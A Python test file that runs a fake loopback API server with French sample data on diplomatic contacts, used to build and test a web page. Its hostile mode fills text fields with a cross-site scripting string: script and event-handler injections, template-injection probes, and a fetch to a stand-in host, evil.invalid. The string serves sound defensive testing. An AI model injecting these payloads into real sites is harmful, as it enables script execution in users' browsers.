"""A server of the API's forms without a record: for building the page (`python tests/web/fake.py`), and, with `hostile`,
for showing that no text of a record can be anything but text.

    python tests/web/fake.py [PORT] [--hostile]
"""

from __future__ import annotations

import json
import mimetypes
import sys
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

STATIC = Path(__file__).parents[2] / "src/pourparlers/web/static"
CSP = "default-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'; object-src 'none'"

NASTY = (
    "<img src=x onerror=\"window.owned=1;fetch('http://evil.invalid/')\"><script>window.owned=1</script>"
    '"><svg/onload=window.owned=1> {{7*7}} ${7*7} javascript:window.owned=1 \u202e\u0000 &lt;b&gt; ' + "w" * 300
)
"""Text that would act, or break the page, where it were taken for markup."""

_KEPT = frozenset(
    {"id", "key", "type", "kind", "date", "earliest", "latest", "status_key", "layer", "published", "start", "end"}
    | {"unit", "first", "last", "source", "target", "position", "document", "moved_from", "languages", "as_of", "next"}
    | {"published_basis", "since", "until", "issue"}
)
"""Fields that hold no words of a record: ids, keys, days."""


def hostile(value: Any, field: str = "") -> Any:
    """`value` with every word in it made hostile."""
    if isinstance(value, dict):
        return {name: hostile(part, name) for name, part in value.items()}
    if isinstance(value, list):
        return [hostile(part, field) for part in value]
    return NASTY if isinstance(value, str) and value and field not in _KEPT else value


DOC = "doc-1"
FR, RU, TR = ({"id": f"actor-{i}", "name": name} for i, name in enumerate(("Emmanuel Macron", "Russie", "Turquie")))
SOURCE = {"document": DOC, "outlet": "La Gazette du soir", "name": "gazette.txt", "published": "2022-03-11"}


def row(n: int, of: str = "contact", **more: Any) -> dict[str, Any]:
    """A fact's row; its number makes its day."""
    day = f"2022-{3 + n % 3:02}-{1 + n * 5 % 27:02}"
    made = {
        "id": f"{of}-{n}", "type": of, "kind": "meeting" if of == "contact" else "direct", "date": day,
        "date_text": day, "earliest": day, "latest": day, "who": f"{FR['name']}, {RU['name']}",
        "what": "rencontre" if of == "contact" else "cité", "where": "Antalya", "status": "tenu",
        "status_key": "held", "issue": None, "actors": [FR, RU], "quotes": ["se sont vus jeudi à Antalya"],
        "sources": [SOURCE], "medium": None,
    }  # fmt: skip
    return {**made, **more}


ROWS = [
    *(row(n) for n in range(8)),
    row(8, status="reporté", status_key="postponed"),
    row(9, status="annulé", status_key="cancelled"),
    *(row(n, "statement", who=FR["name"], status="communiqué", status_key="communique") for n in range(10, 16)),
    *(row(n, "event", what="sanction", status="affirmé", status_key="asserted") for n in range(16, 19)),
    *(row(n, "position", what="exige : cessez-le-feu", issue="ceasefire", kind="demand") for n in range(19, 22)),
    row(22, date="2022-04", date_text="avril 2022", earliest="2022-04-01", latest="2022-04-30"),
    row(23, date=None, date_text="sans date", earliest=None, latest=None),
]
ROWS.sort(key=lambda one: one["earliest"] or "9")
DOCUMENT = {
    "id": DOC, "name": "gazette.txt", "title": "Une rencontre à Antalya", "outlet": "La Gazette du soir",
    "published": "2022-03-11", "published_basis": "text", "n_facts": 3,
}  # fmt: skip


def _facet(*names: str) -> list[dict[str, Any]]:
    return [{"key": name, "name": name, "n": 9 - i} for i, name in enumerate(names)]


def _bins() -> list[dict[str, Any]]:
    return [
        {"start": f"2022-{m:02}-{d:02}", "end": f"2022-{m:02}-{d:02}", "contact": (d * m) % 4, "statement": d % 5}
        | {"event": d % 2, "position": m % 2, "figure": 0}
        for m in (3, 4, 5)
        for d in range(1, 31)
    ]


def _detail(fact: str) -> dict[str, Any]:
    about = next((one for one in ROWS if one["id"] == fact), ROWS[0])
    accounts = [
        {"id": f"account-{n}", "status": "held", "when": about["date"], "place": "Antalya", "outlet": SOURCE["outlet"]}
        for n in (1, 2)
    ]
    return {
        "row": about, "object": {},
        "evidence": [
            {"document": DOC, "outlet": SOURCE["outlet"], "published": "2022-03-11", "before": "Les deux présidents ",
             "quote": "se sont vus jeudi à Antalya", "after": ", selon le Kremlin."}
        ],
        "dating": ["calculée à partir du jour de publication"],
        "history": [{"status": "planned", "as_of": "2022-03-08"}, {"status": "held", "as_of": "2022-03-11"}],
        "accounts": accounts, "answers": [{"id": "position-20", "who": RU["name"], "stance": "refuse"}],
        "judgements": [],
    }  # fmt: skip


def _ledger() -> dict[str, Any]:
    answer = {"id": "position-20", "who": RU["name"], "stance": "refusal", "when": "2022-03-12", "words": "jamais"}
    cell = {
        "position": "position-19", "kind": "demand", "since": "2022-03-11", "words": "un cessez-le-feu immédiat",
        "condition": None, "towards": [RU], "answered_by": [answer], "open": False,
    }  # fmt: skip
    other = {**cell, "position": "position-21", "kind": "refusal", "answered_by": [], "open": True, "condition": "si"}
    matters = [{"issue": "ceasefire", "name": "cessez-le-feu", "cells": {FR["id"]: [cell] * 1, RU["id"]: [other]}}]
    return {"parties": [FR, RU, TR], "matters": matters}


def _agenda() -> dict[str, Any]:
    entries = [
        {"hour": "10:30" if n % 2 else None, "moved_from": "2022-03-03" if one["status_key"] == "postponed" else None}
        | {k: one[k] for k in ("id", "date", "earliest", "latest", "who", "where", "kind", "status", "status_key")}
        | {"sources": [SOURCE]}
        for n, one in enumerate(ROWS)
        if one["type"] == "contact" and one["date"]
    ]
    return {"entries": entries, "as_of": "2022-05-30"}


def _network() -> dict[str, Any]:
    people = [FR, RU, TR, *({"id": f"actor-{n}", "name": f"Acteur {n}"} for n in range(3, 24))]
    kinds = ("person", "state", "organisation")
    return {
        "nodes": [{**one, "kind": kinds[i % 3], "n": 40 - i} for i, one in enumerate(people)],
        "edges": [
            {"source": people[i]["id"], "target": people[(i * j + j) % 24]["id"], "contacts": i % 5, "statements": j}
            | {"cooperation": i % 3, "conflict": j % 4, "first": "2022-03-01", "last": "2022-05-02"}
            for i in range(24)
            for j in (1, 2)
            if i != (i * j + j) % 24
        ],
    }


def _page(items: list[Any]) -> dict[str, Any]:
    return {"items": items, "next": None, "total": len(items)}


def _document() -> dict[str, Any]:
    marks = [{"layer": "contact", "id": "contact-1", "label": "rencontre"}]
    who = {"layer": "actor", "id": FR["id"], "label": FR["name"]}
    return DOCUMENT | {
        "blocks": [
            {"kind": "title", "noise": False, "segments": [{"text": DOCUMENT["title"], "marks": []}]},
            {"kind": "body", "noise": False, "segments": [
                {"text": "Emmanuel Macron", "marks": [*marks, who]},
                {"text": " et son homologue se sont vus ", "marks": marks},
                {"text": "jeudi", "marks": [*marks, {"layer": "time", "id": "time-1", "label": "2022-03-10"}]},
                {"text": ". « Rien n'est acquis »", "marks": [{"layer": "said", "id": "statement-10", "label": "cité"}]},
                {"text": ", a-t-il dit.", "marks": []}]},
            {"kind": "credit", "noise": True, "segments": [{"text": "(Belga)", "marks": []}]},
        ],
        "facts": [one for one in ROWS if one["id"] in {"contact-1", "statement-10"}],
    }  # fmt: skip


def _explain() -> dict[str, Any]:
    reasons = [{"name": "parties", "weight": 0.9, "words": "les mêmes parties"}]
    reasons += [
        {"name": "jour", "weight": 0.6, "words": "le même jour"},
        {"name": "lieu", "weight": -0.3, "words": "?"},
    ]
    pair = {"a": "1", "b": "2", "reasons": reasons, "total": 1.2, "decision": "un seul contact"}
    return {"pairs": [pair], "accounts": [], "threshold": 1.0}


def answer(path: str, query: dict[str, list[str]]) -> Any:
    """What the API says at `path`; None for nothing."""
    name, _, rest = path.strip("/").partition("/")
    one = unquote(rest)
    rows = [r for r in ROWS if not query.get("type") or r["type"] in query["type"]]
    dossier = {"id": "negotiation-1", "name": "France – Russie", "parties": [FR, RU], "issues": ["cessez-le-feu"]}
    dossier |= {"first": "2022-03-01", "last": "2022-05-20"}
    actor = FR | {"kind": "person", "n": 12}
    match name:
        case "info":
            counts = {"documents": 1, "contacts": 10, "statements": 6, "positions": 3}
            return {"program": "0", "pack": "0", "knowledge": "0", "edit": True, "languages": ["fr", "en"]} | {
                "counts": counts, "first": "2022-03-01", "last": "2022-05-30"
            }  # fmt: skip
        case "facts" if one.endswith("/explain"):
            return _explain()
        case "facts":
            return _detail(one) if one else _page(rows)
        case "density":
            return {"unit": "day", "bins": _bins(), "undated": 1}
        case "facets":
            lists = {
                "kind": _facet("meeting", "call"),
                "status": _facet("held", "planned"),
                "outlet": _facet("La Gazette"),
            }
            types = _facet("contact", "statement", "event", "position")
            return {"type": types, "issue": _facet("ceasefire"), "actor": _facet(FR["name"], RU["name"]), **lists}
        case "agenda":
            return _agenda()
        case "network":
            return _network()
        case "ledger":
            return _ledger()
        case "dossiers" if one:
            return dossier | {"contacts": ROWS[:3], "positions": ROWS[3:5], "exchanges": ROWS[5:6]}
        case "dossiers":
            return _page([dossier | {"contacts": 3, "positions": 2, "exchanges": 1}])
        case "actors" if one:
            office = {"office": "président de la République française", "since": "2017-05-14", "until": None}
            return actor | {"names": ["le président français"], "offices": [office]} | {
                "contacts": ROWS[:3], "statements": ROWS[3:5], "positions": ROWS[5:6]
            }  # fmt: skip
        case "actors":
            return _page([actor, RU | {"kind": "state", "n": 9}])
        case "documents":
            return _document() if one else _page([DOCUMENT])
        case "search":
            hit = [{"text": "une ", "match": False}, {"text": "rencontre", "match": True}]
            return _page(
                [{"row": ROWS[0], "document": None, "hit": hit}, {"row": None, "document": DOCUMENT, "hit": hit}]
            )
    return None


class Handler(BaseHTTPRequestHandler):
    """The page's files and the answers above, under the policy that the program's own server sets."""

    hostile = False

    def do_GET(self) -> None:
        url = urlsplit(self.path)
        if url.path.startswith("/api/v1/"):
            found = answer(url.path.removeprefix("/api/v1"), parse_qs(url.query))
            body = json.dumps(hostile(found) if self.hostile else found).encode()
            self._send(HTTPStatus.OK if found else HTTPStatus.NOT_FOUND, "application/json", body)
            return
        file = (STATIC / (url.path.strip("/") or "index.html")).resolve()
        if not file.is_file() or not file.is_relative_to(STATIC.resolve()):
            self._send(HTTPStatus.NOT_FOUND, "text/plain", b"")
            return
        kind = mimetypes.guess_type(file.name)[0] or "application/octet-stream"
        self._send(HTTPStatus.OK, kind, file.read_bytes())

    def _send(self, status: HTTPStatus, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Content-Security-Policy", CSP)
        self.send_header("X-Content-Type-Options", "nosniff")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Says nothing."""


def make_server(port: int = 0, *, nasty: bool = False) -> ThreadingHTTPServer:
    """A server on loopback that still has to be run; 0 is any free port."""
    return ThreadingHTTPServer(("127.0.0.1", port), type("Chosen", (Handler,), {"hostile": nasty}))


if __name__ == "__main__":
    numbers = [int(word) for word in sys.argv[1:] if word.isdigit()]
    make_server(*(numbers or [8765]), nasty="--hostile" in sys.argv).serve_forever()
